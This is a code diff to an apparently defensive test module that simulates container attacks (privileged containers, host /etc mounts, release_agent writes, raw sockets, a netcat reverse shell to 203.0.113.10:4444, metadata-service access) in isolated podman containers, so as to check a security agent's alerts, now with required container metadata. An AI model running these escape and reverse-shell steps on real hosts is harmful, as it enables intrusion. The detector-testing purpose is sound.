@@ -8,37 +8,30 @@
 
 import type { Action, ActionContext } from "../action.ts";
 import { requireCall } from "../command.ts";
-import { IN_IMAGE, runOnce, startContainer } from "../podman.ts";
+import { IMAGE_REPOSITORY, IN_IMAGE, runOnce, startContainer } from "../podman.ts";
 import { createNetLab } from "../netlab.ts";
 import { evidenceOf, expectExit } from "./util.ts";
 
 const NO_NET = ["--network", "none"];
 
 /**
- * How long an agent may need to learn a new container's metadata (name, image, privileged
- * flag, mounts) from the runtime's API: its first lookup can come before the runtime lists the
- * container, and the retry follows a second later.
+ * What every container action's alert must carry about its container: the id (from the cgroup)
+ * and the runtime's metadata. The attacks start at once, without leaving the agent time to look
+ * the container up: its metadata must be there from the container's first event.
  */
-const METADATA_MS = 2500;
+const METADATA_EXPECT = ["container.id", "container.name", "container.image.repository"];
 
-/** A container whose entry process re-executes itself as pid 1 once the agent had time to
- * look the container up: `container started` rules then see its metadata. */
-const LATE_INIT = ["sh", "-c", `sleep ${METADATA_MS / 1000}; exec ${IN_IMAGE.helper} noop`];
+function metadataFacts(id: string, name: string): Record<string, string> {
+  return {
+    "container.id": id.slice(0, 12),
+    "container.name": name,
+    "container.image.repository": IMAGE_REPOSITORY,
+  };
+}
 
-/**
- * A running container to exec into. Attacks whose rules look at the container's metadata pass
- * `needsMetadata` and wait for it; the others only need the container id (from the cgroup).
- */
-async function sleeper(
-  ctx: ActionContext,
-  label: string,
-  flags: string[] = NO_NET,
-  needsMetadata = false,
-) {
-  return startContainer(ctx.ws, await ctx.image(), label, {
-    flags,
-    settleMs: needsMetadata ? METADATA_MS : 300,
-  });
+/** A running container to exec into (the attack follows its start at once). */
+async function sleeper(ctx: ActionContext, label: string, flags: string[] = NO_NET) {
+  return startContainer(ctx.ws, await ctx.image(), label, { flags, settleMs: 300 });
 }
 
 /** Container actions. */
@@ -51,12 +44,12 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "podman run -t ... sh: a shell with a terminal as the container's entry process",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
     async run(ctx) {
       // The runtime (conmon) stays the shell's parent, as with `docker run -it`. An `exec -t`
       // shell is reparented to the host's pid 1 once runc's helpers exit.
-      const { id, result } = await runOnce(ctx.ws, await ctx.image(), "tty", [
+      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "tty", [
         "sh",
         "-c",
         "tty; sleep 1",
@@ -64,7 +57,7 @@ export const CONTAINER_ACTIONS: Action[] = [
       expectExit(result, "podman run -t sh");
       if (!result.stdout.includes("/dev/pts/")) throw new Error(`no terminal: ${result.stdout}`);
       return {
-        facts: { "proc.name": "sh", "container.id": id.slice(0, 12) },
+        facts: { "proc.name": "sh", ...metadataFacts(id, name) },
         containerId: id,
         evidence: evidenceOf(result, "podman run -t sh"),
       };
@@ -77,13 +70,13 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "a program inside a container starts sh -c (no terminal), as an exploited app would",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "proc.pname", "container.id"],
+    expect: ["proc.name", "proc.pname", ...METADATA_EXPECT],
     async run(ctx) {
       const c = await sleeper(ctx, "appshell");
       const r = await c.exec([IN_IMAGE.helper, "spawn", "/bin/sh", "-c", "id > /dev/null"]);
       requireCall(r, "execve", true);
       return {
-        facts: { "proc.name": "sh", "proc.pname": "saker-sim", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "sh", "proc.pname": "saker-sim", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim spawn sh"),
       };
@@ -93,18 +86,18 @@ export const CONTAINER_ACTIONS: Action[] = [
     name: "privileged-container",
     rule: "Privileged container started",
     technique: "T1610",
-    summary: "podman run --privileged (the entry process only waits and exits)",
+    summary: "podman run --privileged (the entry process exits at once)",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["container.id"],
+    expect: [...METADATA_EXPECT],
     async run(ctx) {
-      const { id, result } = await runOnce(ctx.ws, await ctx.image(), "priv", LATE_INIT, [
+      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "priv", [IN_IMAGE.helper, "noop"], [
         ...NO_NET,
         "--privileged",
       ]);
       expectExit(result, "podman run --privileged");
       return {
-        facts: { "container.id": id.slice(0, 12), "container.privileged": true },
+        facts: { ...metadataFacts(id, name), "container.privileged": true },
         containerId: id,
         evidence: evidenceOf(result, "podman run --privileged"),
       };
@@ -117,16 +110,16 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "podman run -v /etc:/host-etc:ro (the host's /etc inside a container)",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["container.id"],
+    expect: [...METADATA_EXPECT],
     async run(ctx) {
-      const { id, result } = await runOnce(ctx.ws, await ctx.image(), "mount", LATE_INIT, [
+      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "mount", [IN_IMAGE.helper, "noop"], [
         ...NO_NET,
         "-v",
         "/etc:/host-etc:ro",
       ]);
       expectExit(result, "podman run -v /etc");
       return {
-        facts: { "container.id": id.slice(0, 12) },
+        facts: { ...metadataFacts(id, name) },
         containerId: id,
         evidence: evidenceOf(result, "podman run -v /etc:/host-etc:ro"),
       };
@@ -140,14 +133,14 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "runs a program named debugfs inside a privileged container",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
     async run(ctx) {
-      const c = await sleeper(ctx, "debugfs", [...NO_NET, "--privileged"], true);
+      const c = await sleeper(ctx, "debugfs", [...NO_NET, "--privileged"]);
       const r = await c.exec([IN_IMAGE.debugfs, "noop"]);
       expectExit(r, "debugfs");
       return {
-        facts: { "proc.name": "debugfs", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "debugfs", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec debugfs"),
       };
@@ -161,7 +154,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "root with CAP_SYS_ADMIN in a container opens a file named release_agent for writing",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["fd.name", "proc.name", "user.uid", "container.id"],
+    expect: ["fd.name", "proc.name", "user.uid", ...METADATA_EXPECT],
     falcoExpect: ["fd.name", "proc.name", "user.name"],
     async run(ctx) {
       const c = await sleeper(ctx, "relagent", [...NO_NET, "--cap-add", "SYS_ADMIN"]);
@@ -174,7 +167,7 @@ export const CONTAINER_ACTIONS: Action[] = [
           "proc.name": "saker-sim",
           "user.name": "root",
           "user.uid": 0,
-          "container.id": c.id.slice(0, 12),
+          ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim open release_agent"),
@@ -189,7 +182,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "copies a program into a running container's /tmp and executes it",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.exe", "proc.name", "container.id"],
+    expect: ["proc.exe", "proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.exe", "proc.name"],
     async run(ctx) {
       const c = await sleeper(ctx, "drop");
@@ -202,7 +195,7 @@ export const CONTAINER_ACTIONS: Action[] = [
         facts: {
           "proc.exe": dropped,
           "proc.name": "saker-dropped",
-          "container.id": c.id.slice(0, 12),
+          ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
         evidence: [...evidenceOf(cp, "podman exec cp"), ...evidenceOf(r, "podman exec dropped")],
@@ -217,14 +210,14 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "opens a raw AF_PACKET socket inside a container (with CAP_NET_RAW)",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
     async run(ctx) {
       const c = await sleeper(ctx, "packet", [...NO_NET, "--cap-add", "NET_RAW"]);
       const r = await c.exec([IN_IMAGE.helper, "packet-socket"]);
       requireCall(r, "socket", true);
       return {
-        facts: { "proc.name": "saker-sim", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim packet-socket"),
       };
@@ -238,7 +231,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "inside a container, makes a connected TCP socket the program's stdin/stdout/stderr",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "fd.type", "fd.l4proto", "container.id"],
+    expect: ["proc.name", "fd.type", "fd.l4proto", ...METADATA_EXPECT],
     falcoExpect: ["proc.name", "fd.type", "fd.l4proto"],
     async run(ctx) {
       const c = await sleeper(ctx, "redirect");
@@ -249,7 +242,7 @@ export const CONTAINER_ACTIONS: Action[] = [
           "proc.name": "saker-sim",
           "fd.type": "ipv4",
           "fd.l4proto": "tcp",
-          "container.id": c.id.slice(0, 12),
+          ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim dup-socket"),
@@ -264,7 +257,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "nc 203.0.113.10 4444 -e /bin/sh inside a container without network",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
     async run(ctx) {
       const c = await sleeper(ctx, "netcat");
@@ -273,7 +266,7 @@ export const CONTAINER_ACTIONS: Action[] = [
       // but a usage error would mean nc never tried.
       if (/Usage:/.test(r.stderr)) throw new Error(`nc rejected its arguments: ${r.stderr}`);
       return {
-        facts: { "proc.name": "nc", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "nc", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec nc -e"),
       };
@@ -287,7 +280,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "a container with CAP_SYS_MODULE calls finit_module on a non-module file (refused)",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
     async run(ctx) {
       const c = await sleeper(ctx, "kmod", [...NO_NET, "--cap-add", "SYS_MODULE"]);
@@ -295,7 +288,7 @@ export const CONTAINER_ACTIONS: Action[] = [
       const call = requireCall(r, "finit_module");
       if (call.result === 0) throw new Error("the kernel accepted /etc/passwd as a module");
       return {
-        facts: { "proc.name": "saker-sim", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim finit-module"),
       };
@@ -308,13 +301,13 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "an unprivileged container process calls unshare(CLONE_NEWUTS) (refused)",
     kind: "container",
     needs: ["root", "podman", "gcc"],
-    expect: ["proc.name", "container.id"],
+    expect: ["proc.name", ...METADATA_EXPECT],
     async run(ctx) {
       const c = await sleeper(ctx, "unshare");
       const r = await c.exec([IN_IMAGE.helper, "unshare-uts"]);
       requireCall(r, "unshare");
       return {
-        facts: { "proc.name": "saker-sim", "container.id": c.id.slice(0, 12) },
+        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim unshare-uts"),
       };
@@ -327,7 +320,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "a container connects to 169.254.169.254:80 (served in a private lab namespace)",
     kind: "container",
     needs: ["root", "podman", "gcc", "netns"],
-    expect: ["proc.name", "fd.sip", "container.id"],
+    expect: ["proc.name", "fd.sip", ...METADATA_EXPECT],
     async run(ctx) {
       const lab = await createNetLab(ctx.ws, await ctx.helper(), {
         client: "169.254.1.2/16",
@@ -341,7 +334,7 @@ export const CONTAINER_ACTIONS: Action[] = [
         facts: {
           "proc.name": "saker-sim",
           "fd.sip": lab.serverIp,
-          "container.id": c.id.slice(0, 12),
+          ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim connect"),
@@ -355,7 +348,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     summary: "a container connects to an API server port (10.96.0.1:6443, private lab namespace)",
     kind: "container",
     needs: ["root", "podman", "gcc", "netns"],
-    expect: ["proc.name", "fd.sip", "fd.sport", "container.id"],
+    expect: ["proc.name", "fd.sip", "fd.sport", ...METADATA_EXPECT],
     async run(ctx) {
       const lab = await createNetLab(ctx.ws, await ctx.helper(), {
         client: "10.96.0.2/24",
@@ -370,7 +363,7 @@ export const CONTAINER_ACTIONS: Action[] = [
           "proc.name": "saker-sim",
           "fd.sip": lab.serverIp,
           "fd.sport": 6443,
-          "container.id": c.id.slice(0, 12),
+          ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim connect"),
